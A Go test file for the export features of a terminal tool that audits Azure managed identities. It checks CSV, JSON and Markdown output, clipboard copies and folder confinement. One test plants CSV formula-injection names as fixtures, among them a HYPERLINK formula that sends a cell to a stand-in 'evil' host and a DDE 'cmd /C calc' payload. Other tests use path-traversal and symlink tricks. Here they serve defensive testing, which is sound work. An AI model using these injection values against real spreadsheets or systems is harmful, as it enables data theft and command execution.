package ui

import (
	"bytes"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"
	"github.com/charmbracelet/x/exp/teatest/v2"

	"github.com/miscope/miscope/data"
	"github.com/miscope/miscope/data/cache"
	"github.com/miscope/miscope/data/report"
)

// bulkTenant is the test tenant with n more identities that hold nothing: large enough to fill a small disk or a
// clipboard, and quick to assess.
func bulkTenant(n int) *data.Tenant {
	tn := testTenant()
	for i := range n {
		tn.Identities = append(tn.Identities, data.Identity{
			ID:          fmt.Sprintf("00000000-0000-0000-0001-%012d", i),
			AppID:       fmt.Sprintf("app-bulk-%d", i),
			DisplayName: fmt.Sprintf("id-bulk-%05d-with-a-name-long-enough-to-take-room", i),
			Kind:        data.UserAssigned,
			ResourceID:  rg(sub2, "rg-bulk") + fmt.Sprintf("/providers/Microsoft.ManagedIdentity/userAssignedIdentities/id-bulk-%05d", i),
		})
	}
	return tn
}

// exportClock is the fixed time export names carry in these tests.
var exportClock = time.Date(2026, 3, 4, 5, 6, 7, 0, time.UTC)

const stamp = "20260304-050607"

func newExportModel(tn *data.Tenant, opts Options) *Model {
	src := data.NewTenantSource(tn, data.SourceInfo{Origin: data.OriginDemo, Label: "demo tenant"})
	opts.Source = cache.New(src, cache.Options{})
	opts.Now = func() time.Time { return exportClock }
	return New(opts)
}

// press builds the key presses the shared keyMsg helper does not know.
func press(k string) tea.KeyPressMsg {
	switch k {
	case "tab":
		return tea.KeyPressMsg{Code: tea.KeyTab}
	case "shift+tab":
		return tea.KeyPressMsg{Code: tea.KeyTab, Mod: tea.ModShift}
	case "left":
		return tea.KeyPressMsg{Code: tea.KeyLeft}
	case "right":
		return tea.KeyPressMsg{Code: tea.KeyRight}
	case "ctrl+u":
		return tea.KeyPressMsg{Code: 'u', Mod: tea.ModCtrl}
	case "ctrl+v":
		return tea.KeyPressMsg{Code: 'v', Mod: tea.ModCtrl}
	}
	return keyMsg(k)
}

func (s *session) press(keys ...string) {
	for _, k := range keys {
		s.tm.Send(press(k))
	}
}

// flash waits for a status message containing want, as the status bar shows it, and returns it with whether it is an error.
func (s *session) flash(want string) (string, bool) {
	s.t.Helper()
	var msg string
	var isErr bool
	s.waitFor(fmt.Sprintf("status %q", want), func(m *Model) bool {
		msg, isErr = shown(m.flash), m.flashErr // as the status bar shows it
		return strings.Contains(msg, want)
	})
	return msg, isErr
}

// exportTable is what an export of the view on top holds right now, with its filter and sort.
func (s *session) exportTable() (t report.Table) {
	s.inspect(func(m *Model) { t = tableLaterOf(m.top())() })
	return t
}

// table is what the view on top shows right now.
func (s *session) table() (title string, cols []string, rows [][]string) {
	s.inspect(func(m *Model) { title, cols, rows = m.top().Table() })
	return
}

// readBack parses an exported file into its column names and rows, in the format it was written in.
func readBack(t *testing.T, path string, f exportFormat) (cols []string, rows [][]string) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	switch f {
	case formatCSV:
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s does not parse as CSV: %v", path, err)
		}
		return recs[0], recs[1:]
	case formatJSON:
		var doc struct {
			Columns []string         `json:"columns"`
			Rows    []map[string]any `json:"rows"`
		}
		dec := json.NewDecoder(bytes.NewReader(b))
		dec.UseNumber()
		if err := dec.Decode(&doc); err != nil {
			t.Fatalf("%s does not parse as JSON: %v", path, err)
		}
		for _, r := range doc.Rows {
			cells := make([]string, len(doc.Columns))
			for i, c := range doc.Columns {
				cells[i] = fmt.Sprint(r[c]) // a string, or a number as written
			}
			rows = append(rows, cells)
		}
		return doc.Columns, rows
	}
	lines := strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
	start := slices.IndexFunc(lines, func(l string) bool { return strings.HasPrefix(l, "|") })
	if start < 0 || start+1 >= len(lines) || !strings.HasPrefix(lines[start+1], "| ---") {
		t.Fatalf("%s has no Markdown table:\n%s", path, b)
	}
	cols = mdCells(lines[start])
	for _, l := range lines[start+2:] {
		rows = append(rows, mdCells(l))
	}
	return cols, rows
}

// mdCells splits a Markdown table line on its unescaped pipes and undoes the escaping.
func mdCells(line string) []string {
	var cells []string
	var cur strings.Builder
	for i := 1; i < len(line); i++ {
		switch c := line[i]; {
		case c == '\\' && i+1 < len(line):
			i++
			cur.WriteByte(line[i])
		case c == '|':
			cells = append(cells, strings.TrimSpace(cur.String()))
			cur.Reset()
		default:
			cur.WriteByte(c)
		}
	}
	un := strings.NewReplacer("&lt;", "<", "&gt;", ">", "&amp;", "&")
	for i := range cells {
		cells[i] = un.Replace(cells[i])
	}
	return cells
}

// sameTable compares what a file holds with what the view showed. CSV shows formula-like cells with a leading quote,
// which is the one change an export makes.
func sameTable(t *testing.T, what string, f exportFormat, wantCols []string, wantRows [][]string, cols []string,
	rows [][]string) {
	t.Helper()
	// A view's table keeps the tenant's text exactly, as JSON does; CSV and Markdown mark what they cannot carry.
	norm := func(s string) string {
		switch f {
		case formatCSV:
			return report.CSVCell(s)
		case formatMarkdown:
			return data.Clean(s)
		}
		return s
	}
	if !slices.Equal(cols, wantCols) {
		t.Errorf("%s: columns %q, want %q", what, cols, wantCols)
	}
	if len(rows) != len(wantRows) {
		t.Fatalf("%s: %d rows, the view shows %d", what, len(rows), len(wantRows))
	}
	for i := range wantRows {
		for j := range wantRows[i] {
			if j >= len(rows[i]) || rows[i][j] != norm(wantRows[i][j]) {
				t.Errorf("%s: row %d: %q, the view shows %q", what, i, rows[i], wantRows[i])
				break
			}
		}
	}
}

// TestExportEachViewInEachFormat exports the list (filtered and sorted), a detail view with a section that is not
// readable, the findings pane and a pivot list in every format, and reads each file back.
func TestExportEachViewInEachFormat(t *testing.T) {
	dir := t.TempDir()
	s := start(t, newExportModel(testTenant(), Options{ExportDir: dir}), 120, 40)
	s.ready()

	views := []struct {
		name string
		kind string
		open func()
		want func(t *testing.T, rows [][]string)
	}{
		{"filtered list", "identities", func() {
			s.keys("/")
			s.typeText("vm")
			s.keys("enter", "N")
			s.waitText("1/2 of 5")
		}, func(t *testing.T, rows [][]string) {
			if len(rows) != 2 || rows[0][0] != "id-vm-web" || rows[1][0] != "vm-graph" {
				t.Errorf("the filtered, name-sorted list exported as %q", rows)
			}
		}},
		{"detail", "identity-vm-graph", func() {
			s.tm.Send(s.openCmd(idGraph))
			s.waitFor("the detail", func(m *Model) bool { d, ok := m.top().(*detailView); return ok && !d.busy() })
		}, func(t *testing.T, rows [][]string) {
			var gap, perm bool
			for _, r := range rows {
				gap = gap || r[0] == "Azure roles" && strings.Contains(r[1], "not readable") &&
					strings.Contains(r[1], "Microsoft.Authorization/roleAssignments/read")
				perm = perm || strings.Contains(r[1], "Directory.ReadWrite.All")
			}
			if !gap || !perm {
				t.Errorf("the detail export lacks the unreadable Azure roles (%v) or the permission (%v): %q", gap, perm,
					rows)
			}
		}},
		{"findings", "findings", func() {
			s.keys("f")
			s.waitFor("the findings pane", func(m *Model) bool { v, ok := m.top().(*findingsView); return ok && v.filled })
		}, func(t *testing.T, rows [][]string) {
			if len(rows) == 0 {
				t.Fatal("no findings exported")
			}
			for _, r := range rows {
				if len(r) < 6 || r[4] == "" {
					t.Errorf("a finding without its evidence: %q", r)
				}
			}
		}},
		{"pivot", "pivot", func() {
			s.tm.Send(keyRun{func(m *Model) tea.Cmd {
				return m.openPivot(pivotTarget{kind: pivotGroup, id: grpTier0, label: "Tier0 Admins"})
			}})
			s.waitFor("the pivot", func(m *Model) bool { v, ok := m.top().(*pivotView); return ok && !v.loading })
		}, func(t *testing.T, rows [][]string) {
			if len(rows) != 2 {
				t.Errorf("Tier0 Admins has two members, the export has %q", rows)
			}
		}},
	}
	for _, v := range views {
		v.open()
		title, wantCols, wantRows := s.table()
		for _, f := range []exportFormat{formatCSV, formatJSON, formatMarkdown} {
			what := v.name + " as " + f.String()
			s.keys("e", strings.ToLower(f.String()[:1]), "enter")
			path := filepath.Join(dir, "miscope-"+v.kind+"-contoso-"+stamp+f.ext())
			msg, isErr := s.flash("exported")
			if isErr || !strings.Contains(msg, filepath.Base(path)) || !strings.Contains(msg, data.Plural(len(wantRows), "row", "rows")) ||
				ansi.StringWidth(msg) > 120-2 {
				t.Errorf("%s: status %q, want on one line the file %s and the row count %d", what, msg, path, len(wantRows))
			}
			cols, rows := readBack(t, path, f)
			sameTable(t, what, f, wantCols, wantRows, cols, rows)
			v.want(t, rows)
			if f == formatMarkdown {
				b, _ := os.ReadFile(path)
				if !strings.HasPrefix(string(b), "**"+report.MarkdownCell(title)+"**") {
					t.Errorf("%s: the Markdown does not start with the view's title %q", what, title)
				}
			}
			s.inspect(func(m *Model) { m.flash = "" })
		}
	}
	assertPrivateFilesOnly(t, dir, 12)
}

// assertPrivateFilesOnly checks that a folder holds n files, every one 0600, and no temporary file.
func assertPrivateFilesOnly(t *testing.T, dir string, n int) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != n {
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		t.Errorf("%s holds %d files, want %d: %q", dir, len(entries), n, names)
	}
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".tmp") || strings.HasPrefix(e.Name(), ".") {
			t.Errorf("a temporary file was left behind: %s", e.Name())
		}
		info, err := e.Info()
		if err != nil {
			t.Fatal(err)
		}
		if info.Mode().Perm() != 0o600 {
			t.Errorf("%s has mode %v, want 0600", e.Name(), info.Mode().Perm())
		}
	}
}

func TestExportPromptFormatAndName(t *testing.T) {
	s := start(t, newExportModel(testTenant(), Options{}), 80, 24)
	s.ready()
	s.keys("e")
	value := func() (v string) { s.inspect(func(m *Model) { v = m.exp.path.Value() }); return }
	if got, want := value(), "./miscope-identities-contoso-"+stamp+".csv"; got != want {
		t.Errorf("prefilled path %q, want %q", got, want)
	}
	screen := s.waitText("Export", "CSV", "JSON", "MD", stamp+".csv", "esc cancel")
	checkFrame(t, s.content(), 80, 24)
	if l := lineWith(screen, "Export"); !strings.Contains(l, "to ./miscope-identities") {
		t.Errorf("the prompt line does not show the path at 80x24: %q", l)
	}
	for _, step := range []struct{ key, ext string }{
		{"tab", ".json"}, {"right", ".md"}, {"tab", ".csv"}, {"left", ".md"}, {"shift+tab", ".json"}, {"c", ".csv"},
		{"m", ".md"}, {"j", ".json"},
	} {
		s.press(step.key)
		s.waitFor("the extension "+step.ext, func(m *Model) bool { return strings.HasSuffix(m.exp.path.Value(), step.ext) })
	}
	// Down moves into the path, where letters are text, tab still cycles the format and ctrl+v does nothing (under
	// SSH it would read the server's clipboard); a bracketed paste arrives cleaned.
	s.press("down", "ctrl+u")
	s.typeText("out-cjm.json")
	s.press("ctrl+v", "tab")
	s.tm.Send(tea.PasteMsg{Content: "\x1b[31mx"})
	s.waitFor("the typed path", func(m *Model) bool { return m.exp.path.Value() == "out-cjm.mdx" })
	s.inspect(func(m *Model) {
		if m.exp.format != formatMarkdown {
			t.Errorf("tab in the path gave %v, want Markdown", m.exp.format)
		}
		if m.exp.path.KeyMap.Paste.Enabled() {
			t.Error("the path input's ctrl+v paste is enabled")
		}
	})
	s.keys("esc")
	s.flash("export cancelled")
	s.inspect(func(m *Model) {
		if m.exp.open {
			t.Error("esc left the prompt open")
		}
	})
	// The name follows the view and the tenant; without a name the tenant id is used.
	s.keys("f", "e")
	s.waitFor("the findings name", func(m *Model) bool {
		return m.exp.path.Value() == "./miscope-findings-contoso-"+stamp+".md"
	})
	for _, c := range []struct {
		info data.SourceInfo
		want string
	}{
		{data.SourceInfo{TenantName: "Contoso Pharma (Prod) \x1b[2J"}, "contoso-pharma-prod"},
		{data.SourceInfo{TenantName: "../../etc", TenantID: "x"}, "etc"},
		{data.SourceInfo{TenantName: "東京", TenantID: "AAAA-bbbb"}, "aaaa-bbbb"},
		{data.SourceInfo{}, "tenant"},
	} {
		if got := tenantSlug(c.info); got != c.want {
			t.Errorf("tenantSlug(%+v) = %q, want %q", c.info, got, c.want)
		}
	}
}

func TestExportHostileCellsAreNeutralised(t *testing.T) {
	tn := testTenant()
	tn.Identities[3].DisplayName = `=HYPERLINK("http://evil/?"&A1,"click")`
	tn.Identities[0].DisplayName = "@SUM(1+1)*cmd|' /C calc'!A0"
	dir := t.TempDir()
	s := start(t, newExportModel(tn, Options{ExportDir: dir}), 120, 40)
	s.ready()
	s.keys("e", "enter")
	s.flash("exported")
	raw, err := os.ReadFile(filepath.Join(dir, "miscope-identities-contoso-"+stamp+".csv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"\x1b", "\u202e", "\x07", "\r"} {
		if bytes.Contains(raw, []byte(bad)) {
			t.Errorf("the CSV carries %q from a hostile name", bad)
		}
	}
	recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, r := range recs[1:] {
		names = append(names, r[0])
		if c := strings.TrimLeft(r[0], " "); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
			t.Errorf("a cell a spreadsheet would run: %q", r[0])
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil/?"&A1,"click")`, "'@SUM(1+1)*cmd|' /C calc'!A0",
		`evil\x1b\x1b\u202egnp.exe  X`} {
		if !slices.Contains(names, want) {
			t.Errorf("the CSV names are %q, want %q among them", names, want)
		}
	}
}

func TestExportToUnwritablePlaces(t *testing.T) {
	base := t.TempDir()
	file := filepath.Join(base, "file")
	if err := os.WriteFile(file, []byte("not a folder"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name, dir, want string
	}{
		{"under a file", filepath.Join(file, "sub"), "is not a folder"},
		{"missing folder", filepath.Join(base, "missing", "deeper"), "does not exist"},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := start(t, newExportModel(testTenant(), Options{ExportDir: c.dir}), 80, 24)
			s.ready()
			s.keys("e", "enter")
			msg, isErr := s.flash(c.want)
			if !isErr || !strings.Contains(msg, c.dir) {
				t.Errorf("status %q (error %v), want an error naming %s", msg, isErr, c.dir)
			}
			s.inspect(func(m *Model) {
				if !m.exp.open || m.exp.stage != exportChoosing || !m.exp.onPath {
					t.Errorf("after a failed write the prompt should stay open on the path: %+v", m.exp.stage)
				}
			})
			s.waitText("error: ") // the status bar says it is an error, not only in colour
			checkFrame(t, s.content(), 80, 24)
		})
	}
	entries, _ := os.ReadDir(base)
	if len(entries) != 1 {
		t.Errorf("a failed export left files behind: %v", entries)
	}
	// A path that names a folder is refused before anything is written.
	s := start(t, newExportModel(testTenant(), Options{}), 80, 24)
	s.ready()
	s.keys("e")
	s.press("down", "ctrl+u")
	s.typeText(base)
	s.keys("enter")
	s.flash("is a folder")
}

// TestExportFullDisk writes to a 64 KB tmpfs, which needs root (mount); elsewhere it is skipped.
func TestExportFullDisk(t *testing.T) {
	dir := t.TempDir()
	if out, err := exec.Command("mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", dir).CombinedOutput(); err != nil {
		t.Skipf("cannot mount a small tmpfs to fill (%v: %s)", err, bytes.TrimSpace(out))
	}
	t.Cleanup(func() { _ = exec.Command("umount", dir).Run() })
	if err := os.WriteFile(filepath.Join(dir, "miscope-identities-contoso-"+stamp+".csv"), []byte("old"),
		0o600); err != nil {
		t.Fatal(err)
	}
	s := start(t, newExportModel(bulkTenant(2000), Options{ExportDir: dir}), 120, 40)
	s.ready()
	s.keys("e", "enter")
	s.waitText("Overwrite the existing file? y/n")
	s.keys("y")
	msg, isErr := s.flash("disk full")
	if !isErr || !strings.Contains(msg, "nothing was written") {
		t.Errorf("status %q, want a full disk error that says nothing was written", msg)
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 1 {
		t.Errorf("the full disk holds %v, want only the old file", entries)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, entries[0].Name())); string(b) != "old" {
		t.Errorf("the file that was to be replaced now holds %d bytes, want it untouched", len(b))
	}
}

func TestExportAsksBeforeOverwriting(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "miscope-identities-contoso-"+stamp+".csv")
	if err := os.WriteFile(path, []byte("keep me"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := start(t, newExportModel(testTenant(), Options{ExportDir: dir}), 80, 24)
	s.ready()
	s.keys("e", "enter")
	s.waitText("Overwrite the existing file? y/n", stamp+".csv")
	checkFrame(t, s.content(), 80, 24)
	s.keys("n")
	s.flash("kept " + path)
	if b, _ := os.ReadFile(path); string(b) != "keep me" {
		t.Fatalf("n replaced the file: %q", b)
	}
	s.inspect(func(m *Model) {
		if !m.exp.open || !m.exp.onPath {
			t.Error("after n the prompt should stay open on the path so another name can be chosen")
		}
	})
	s.keys("enter")
	s.waitText("Overwrite the existing file? y/n")
	s.keys("y")
	s.flash("050607.csv (CSV)") // the path is cut in the middle to keep to one line at 80 columns
	b, _ := os.ReadFile(path)
	if !strings.HasPrefix(string(b), "NAME,KIND,ATTACHED") {
		t.Errorf("y did not replace the file: %q", b)
	}
	assertPrivateFilesOnly(t, dir, 1) // the replaced file is 0600 too, whatever the old one was
}

func TestServedExportStaysInItsFolder(t *testing.T) {
	dir := t.TempDir()
	s := start(t, newExportModel(testTenant(), Options{Served: true, ExportDir: dir}), 80, 24)
	s.ready()
	s.keys("e")
	s.waitText("contoso-"+stamp+".csv", "to …")
	s.inspect(func(m *Model) {
		if v := m.exp.path.Value(); v != "miscope-identities-contoso-"+stamp+".csv" {
			t.Errorf("served prompt prefilled %q, want a plain file name", v)
		}
	})
	for _, bad := range []string{"../escape.csv", "/tmp/escape.csv", "sub/x.csv", "..", `a\b.csv`} {
		s.press("down", "ctrl+u")
		s.typeText(bad)
		s.keys("enter")
		s.flash("not a plain file name")
	}
	s.press("ctrl+u")
	s.typeText("triage.csv")
	s.keys("enter")
	s.flash("exported 5 rows to")
	s.flash("triage.csv (CSV)")
	assertPrivateFilesOnly(t, dir, 1)
	if _, err := os.Stat(filepath.Join(filepath.Dir(dir), "escape.csv")); err == nil {
		t.Error("a served export escaped its folder")
	}
}

// TestServedExportFollowsNoLink: a link planted in the server's export folder must not lead a session's export out.
func TestServedExportFollowsNoLink(t *testing.T) {
	dir, outside := t.TempDir(), t.TempDir()
	victim := filepath.Join(outside, "victim.csv")
	os.WriteFile(victim, []byte("keep me"), 0o600)
	if err := os.Symlink(victim, filepath.Join(dir, "triage.csv")); err != nil {
		t.Skip("no symlinks here:", err)
	}
	s := start(t, newExportModel(testTenant(), Options{Served: true, ExportDir: dir}), 80, 24)
	s.ready()
	s.keys("e")
	s.press("down", "ctrl+u")
	s.typeText("triage.csv")
	s.keys("enter")
	s.flash("not a plain file")
	if b, _ := os.ReadFile(victim); string(b) != "keep me" {
		t.Errorf("a served export followed a link out of its folder: %q", b)
	}
}

// TestServedExportWithoutFolderCopies: a served session without an export folder offers the export on the user's
// own clipboard (OSC 52) instead of a file on the server.
func TestServedExportWithoutFolderCopies(t *testing.T) {
	s := start(t, newExportModel(testTenant(), Options{Served: true}), 80, 24)
	s.ready()
	s.keys("e")
	s.waitText("Copy as", "to your clipboard")
	checkFrame(t, s.content(), 80, 24)
	s.keys("j")
	var want bytes.Buffer
	if err := report.WriteTableJSON(&want, s.exportTable()); err != nil {
		t.Fatal(err)
	}
	s.keys("enter")
	s.flash("copied Managed identities as JSON (5 rows)")
	osc := "\x1b]52;c;" + base64.StdEncoding.EncodeToString(want.Bytes())
	teatest.WaitFor(t, s.tm.Output(), func(b []byte) bool { return bytes.Contains(b, []byte(osc)) },
		teatest.WithDuration(3*time.Second))
}

// TestCopyIDFromDetail: y on a line of the detail view copies that line's id (here the Azure role's scope) through
// OSC 52.
func TestCopyIDFromDetail(t *testing.T) {
	s := start(t, newExportModel(testTenant(), Options{}), 120, 40)
	s.ready()
	s.tm.Send(s.openCmd(idClean))
	s.waitFor("the detail", func(m *Model) bool { d, ok := m.top().(*detailView); return ok && !d.busy() })
	var label, id string
	for range 30 {
		s.inspect(func(m *Model) { label, id = m.top().Selected() })
		if id == "/subscriptions/"+sub1 {
			break
		}
		s.keys("j")
	}
	if id != "/subscriptions/"+sub1 {
		t.Fatalf("no line of the detail selects the Reader scope; last selected %q %q", label, id)
	}
	s.keys("y")
	s.flash("copied " + label + ": " + id)
	want := "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte(id)) + "\x07"
	teatest.WaitFor(t, s.tm.Output(), func(b []byte) bool { return bytes.Contains(b, []byte(want)) },
		teatest.WithDuration(3*time.Second))
}

// TestCopyViewRefusesLargeViews: Y on a view too large for a terminal's clipboard says so and copies nothing; once
// filtered, the same key copies the Markdown table.
func TestCopyViewRefusesLargeViews(t *testing.T) {
	s := start(t, newExportModel(bulkTenant(3000), Options{}), 120, 40)
	s.ready()
	s.keys("Y")
	msg, isErr := s.flash("too large to copy")
	if !isErr || !strings.Contains(msg, "3005 rows") || !strings.Contains(msg, "export it with e") {
		t.Errorf("status %q, want an error with the size and what to do instead", msg)
	}
	s.keys("/")
	s.typeText("id-bulk-0004")
	s.keys("enter")
	s.waitText("1/10 of 3005")
	title, cols, rows := s.table()
	if len(rows) != 10 {
		t.Fatalf("the filter kept %d rows", len(rows))
	}
	var md bytes.Buffer
	if err := report.WriteTableMarkdown(&md, s.exportTable()); err != nil || !strings.Contains(md.String(), "_filter: id-bulk-0004") {
		t.Fatalf("the Markdown copy does not record its filter (%v):\n%s", err, md.String())
	}
	_ = cols
	s.keys("Y")
	s.flash("copied " + title + " as Markdown")
	want := "\x1b]52;c;" + base64.StdEncoding.EncodeToString(md.Bytes()) + "\x07"
	var out []byte
	teatest.WaitFor(t, s.tm.Output(), func(b []byte) bool {
		out = bytes.Clone(b)
		return bytes.Contains(out, []byte(want))
	},
		teatest.WithDuration(3*time.Second))
	if n := bytes.Count(out, []byte("\x1b]52;")); n != 1 {
		t.Errorf("%d clipboard writes, want only the filtered view's", n)
	}
}

// TestExportsSayWhatTheyHold: an export records the filter and sort that produced it, carries each row's object id,
// writes counts as JSON numbers, names an identity's export after the identity, refuses a file name of another
// format, and says where it wrote on one status line, however long the path.
func TestExportsSayWhatTheyHold(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "a-folder-with-a-rather-long-name", "and-another-one-below-it")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	s := start(t, newExportModel(testTenant(), Options{ExportDir: dir}), 80, 24)
	s.ready()
	s.keys("/")
	s.typeText("vm")
	s.keys("enter", "N")
	s.waitText("1/2 of 5")
	s.keys("e", "j", "enter")
	msg, _ := s.flash("exported")
	if ansi.StringWidth(msg) > 80-2 || !strings.Contains(msg, ".json (JSON)") {
		t.Errorf("the status line %q does not fit 80 columns or lost the file's name", msg)
	}
	b, err := os.ReadFile(filepath.Join(dir, "miscope-identities-contoso-"+stamp+".json"))
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Filter  *string          `json:"filter"`
		Sort    *string          `json:"sort"`
		Columns []string         `json:"columns"`
		Rows    []map[string]any `json:"rows"`
	}
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Filter == nil || *doc.Filter != "vm" || doc.Sort == nil || *doc.Sort != "NAME, ascending" {
		t.Errorf("filter %v sort %v, want vm and NAME, ascending", doc.Filter, doc.Sort)
	}
	if len(doc.Rows) != 2 || doc.Rows[0][exportIDColumn] != idWeb || doc.Rows[1][exportIDColumn] != idGraph {
		t.Errorf("rows do not carry their object ids: %v", doc.Rows)
	}
	numbers := 0
	for _, r := range doc.Rows {
		for _, v := range r {
			if _, ok := v.(float64); ok {
				numbers++
			}
		}
	}
	if numbers != len(doc.Rows) { // the count of findings, one per row
		t.Errorf("%d numbers in %v, want the finding count of each row as a number", numbers, doc.Rows)
	}
	s.inspect(func(m *Model) { m.flash = "" })

	// A name of another format is refused, not written.
	s.keys("e", "m")
	s.press("down", "ctrl+u")
	s.typeText("list.csv")
	s.keys("enter")
	if msg, isErr := s.flash("list.csv names a CSV file but Markdown is chosen"); !isErr || !strings.Contains(msg, "list.md") {
		t.Errorf("status %q", msg)
	}
	if _, err := os.Stat(filepath.Join(dir, "list.csv")); err == nil {
		t.Error("a Markdown export was written as list.csv")
	}
	s.keys("esc")

	// An identity's export is named after it.
	s.tm.Send(s.openCmd(idGraph))
	s.waitFor("the detail", func(m *Model) bool { d, ok := m.top().(*detailView); return ok && !d.busy() })
	s.keys("e")
	s.waitFor("the prefilled name", func(m *Model) bool {
		return strings.Contains(m.exp.path.Value(), "miscope-identity-vm-graph-contoso-"+stamp+".")
	})
}
